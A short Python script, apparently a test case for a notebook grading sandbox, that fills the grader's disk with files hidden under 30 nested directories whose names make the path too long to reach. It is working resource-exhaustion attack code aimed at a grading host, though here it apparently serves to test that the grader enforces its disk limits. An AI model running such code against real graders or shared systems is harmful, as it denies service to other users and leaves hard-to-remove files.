"""Fills the grader's disk in a folder so deep that no path leads to it.

attack: disk
limits: disk=24 cell=3
names: disk
"""
import os, time
from ipykernel.connect import get_connection_file
os.chdir(os.path.dirname(get_connection_file()))
for _ in range(30):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(10):
    open(str(number), "wb").write(bytes(2**23))
time.sleep(100)
